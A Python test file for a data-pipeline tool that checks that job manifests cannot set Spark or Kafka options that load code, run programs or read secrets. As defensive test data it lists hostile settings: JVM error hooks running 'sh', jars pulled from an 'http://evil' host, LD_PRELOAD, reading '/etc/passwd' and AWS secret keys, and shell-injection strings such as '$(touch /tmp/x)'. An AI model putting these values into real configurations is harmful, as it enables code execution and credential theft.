"""Attacked: the worker's process, by settings in a manifest that load code, run programs or read
variables."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from tests.support.jobs.plugin_context import plugin_context

from onyx.errors import UserError
from onyx.model.job import CatalogEntry, Job, Spark
from onyx.model.notices import notices
from onyx.plugins.kafka.options import KafkaInputOptions
from onyx.plugins.options import check_options
from onyx.plugins.protocol import PluginContext
from onyx.rights import Rights, rights_of
from onyx.settings import from_environment
from onyx.spark.input.options import SparkInputOptions
from onyx.spark.input.plugin import SparkInput
from onyx.spark.middle.options import MiddleOptions
from onyx.spark.middle.request import request_of as middle_request
from onyx.spark.session.masters import spark_of_job
from onyx.spark.session.opening import configuration
from onyx.spark.stage.frames import request_of as output_request
from onyx.spark.stage.options import SparkOptions

CODE = [
    ("spark.driver.extraJavaOptions", "-XX:OnOutOfMemoryError=touch /tmp/x"),
    ("spark.driver.defaultJavaOptions", "-javaagent:x.jar"),
    ("spark.executor.extraJavaOptions", "-XX:OnError=sh"),
    ("spark.driver.extraClassPath", "/tmp"),
    ("spark.driver.extraLibraryPath", "/tmp"),
    ("spark.jars", "http://evil/x.jar"),
    ("spark.jars.packages", "a:b:1"),
    ("spark.jars.repositories", "http://evil"),
    ("spark.plugins", "a.B"),
    ("spark.extraListeners", "a.B"),
    ("spark.files", "/etc/passwd"),
    ("spark.archives", "/tmp/x.zip"),
    ("spark.submit.pyFiles", "/tmp/x.py"),
    ("spark.pyspark.python", "/tmp/x"),
    ("spark.pyspark.driver.python", "/tmp/x"),
    ("spark.python.daemon.module", "x"),
    ("spark.python.worker.module", "x"),
    ("spark.executorEnv.LD_PRELOAD", "/tmp/x.so"),
    ("spark.master", "spark://evil:7077"),
    ("spark.home", "/tmp"),
    ("spark.local.dir", "/etc"),
    ("spark.eventLog.dir", "file:///etc"),
    ("spark.authenticate", "false"),
    ("spark.serializer", "a.B"),
    ("spark.shuffle.manager", "a.B"),
    ("spark.shuffle.sort.io.plugin.class", "a.B"),
    ("spark.worker.resource.gpu.discoveryScript", "/tmp/x"),
    ("spark.driver.resource.gpu.discoveryScript", "/tmp/x"),
    ("spark.metrics.conf.driver.sink.x.class", "a.B"),
    ("spark.hadoop.fs.s3a.impl", "a.B"),
    ("spark.hadoop.fs.s3a.bucket.x.aws.credentials.provider", "a.B"),
    ("spark.hadoop.fs.file.impl", "a.B"),
    ("spark.hadoop.hadoop.security.credential.provider.path", "jceks://file/tmp/x"),
    ("spark.kubernetes.executor.podTemplateFile", "/tmp/x"),
    ("spark.sql.extensions", "a.B"),
    ("spark.sql.catalog.evil", "a.B"),
    ("spark.sql.catalogImplementation", "hive"),
    ("spark.sql.hive.metastore.jars", "maven"),
    ("spark.sql.hive.metastore.jars.path", "/tmp"),
    ("spark.sql.maven.additionalRemoteRepositories", "http://evil"),
    ("spark.sql.sources.commitProtocolClass", "a.B"),
    ("spark.sql.streaming.stateStore.providerClass", "a.B"),
    ("spark.sql.queryExecutionListeners", "a.B"),
    ("spark.sql.execution.pyspark.python", "/tmp/x"),
    ("spark.sql.reflect.allowList", "java.lang.Runtime"),
    ("spark.sql.warehouse.dir", "/etc"),
    ("spark.sql.variable.substitute", "true"),
    ("spark.sql.session.timeZone", "${env:AWS_SECRET_ACCESS_KEY}"),
    ("spark.driver.host", "${system:user.name}"),
    ("x", "y"),
]
TUNES = {
    "spark.driver.memory": "4g",
    "spark.executor.cores": "2",
    "spark.cores.max": "8",
    "spark.sql.shuffle.partitions": "8",
    "spark.sql.adaptive.enabled": "true",
    "spark.sql.execution.arrow.pyspark.enabled": "true",
    "spark.sql.parquet.compression.codec": "zstd",
    "spark.sql.session.timeZone": "UTC",
    "spark.shuffle.file.buffer": "64k",
    "spark.dynamicAllocation.maxExecutors": "8",
    "spark.hadoop.fs.s3a.endpoint": "http://store:9000",
    "spark.hadoop.fs.s3a.bucket.flights.path.style.access": "true",
    "spark.kryoserializer.buffer.max": "64m",
    "spark.ui.enabled": "true",
}


NONE = Rights(paths=(os.getcwd(),))


def context(rights: Rights = NONE, spark: Spark | None = None) -> PluginContext:
    made = plugin_context({}, functions={"m:f": lambda frame: frame})
    return replace(
        made, rights=rights, spark=spark or Spark(), upstream=("read",), spark_stage="m:f"
    )


def of_stage(conf: dict[str, str], given: PluginContext) -> None:
    read, problems = check_options({"path": "p", "stage": "m:f", "sparkConf": conf}, SparkOptions)
    assert read is not None, problems
    output_request(given, read)


def of_middle(conf: dict[str, str], given: PluginContext) -> None:
    read, problems = check_options({"path": "p", "sparkConf": conf}, MiddleOptions)
    assert read is not None, problems
    middle_request(given, read)


def of_input(conf: dict[str, str], given: PluginContext) -> None:
    read, problems = check_options(
        {"path": "p", "frame": "m:f", "sparkConf": conf}, SparkInputOptions
    )
    assert read is not None, problems
    SparkInput(given, read, lambda *_: None)


def of_the_job(conf: dict[str, str], given: PluginContext) -> None:
    spark_of_job(Spark(spark_conf=conf), "local[*]", given.rights)


PLACES = [of_stage, of_middle, of_input, of_the_job]


@pytest.mark.parametrize(("key", "value"), CODE)
def test_a_job_sets_nothing_of_spark_that_carries_code(key: str, value: str) -> None:
    for place in PLACES:
        with pytest.raises(UserError) as raised:
            place({key: value}, context())
        assert "sparkConf" in str(raised.value)
        assert key in str(raised.value)


@pytest.mark.parametrize("place", PLACES)
def test_a_job_sets_what_tunes_spark(place: Any) -> None:
    place(TUNES, context())


@pytest.mark.parametrize("place", PLACES)
def test_who_starts_the_worker_may_let_jobs_set_more(place: Any) -> None:
    variables = {"ONYX_SPARK_CONF_ALLOWED": "spark.jars,spark.eventLog.*"}
    rights = rights_of(from_environment(variables))
    place({"spark.jars": "/a.jar", "spark.eventLog.enabled": "true"}, context(rights))
    with pytest.raises(UserError, match="ONYX_SPARK_CONF_ALLOWED"):
        place({"spark.jars.packages": "a:b:1"}, context(rights))


def test_settings_of_the_job_are_looked_at_for_each_task() -> None:
    job = Spark(spark_conf={"spark.plugins": "a.B"})
    with pytest.raises(UserError, match=r"spec\.spark\.sparkConf.*spark\.plugins"):
        of_stage({}, context(spark=job))


def test_checking_a_job_tells_what_workers_refuse() -> None:
    entry = CatalogEntry("read", "input", options={"sparkConf": {"spark.jars": "x.jar"}})
    conf = {"spark.driver.extraJavaOptions": "-Dx=y", "spark.driver.memory": "1g"}
    job = Job("j", (), (entry,), spark=Spark(spark_conf=conf))
    found = [str(each) for each in notices(job) if "ONYX_SPARK_CONF_ALLOWED" in str(each)]
    assert ["extraJavaOptions" in found[0], "spark.jars" in found[1], len(found)] == [True, True, 2]


def test_texts_of_sql_get_no_variables_of_the_process() -> None:
    assert configuration("local[1]", Path("/s"), {})["spark.sql.variable.substitute"] == "false"


@pytest.mark.parametrize("option", ["config", "configEnv"])
@pytest.mark.parametrize(
    "key",
    [
        "sasl.kerberos.kinit.cmd",
        "plugin.library.paths",
        "ssl.engine.location",
        "ssl.providers",
        "builtin.features",
    ],
)
def test_no_setting_of_kafka_runs_a_program(option: str, key: str) -> None:
    options = {"bootstrapServers": "k:1", "topic": "t", option: {key: "x"}}
    _, (problem,) = check_options(options, KafkaInputOptions)
    assert key in problem.message


@pytest.mark.parametrize("key", ["principal", "keytab", "service.name"])
@pytest.mark.parametrize("value", ["$(touch /tmp/x)", "a; b", "`b`", "a\nb", "a | b", '"'])
def test_no_shell_reads_what_a_job_says_of_kerberos(key: str, value: str) -> None:
    config = {f"sasl.kerberos.{key}": value}
    options = {"bootstrapServers": "k:1", "topic": "t", "config": config}
    _, (problem,) = check_options(options, KafkaInputOptions)
    assert "a shell would read" in problem.message
    options["config"] = {f"sasl.kerberos.{key}": "/etc/onyx-1_2@EXAMPLE.ORG"}
    assert check_options(options, KafkaInputOptions)[1] == []
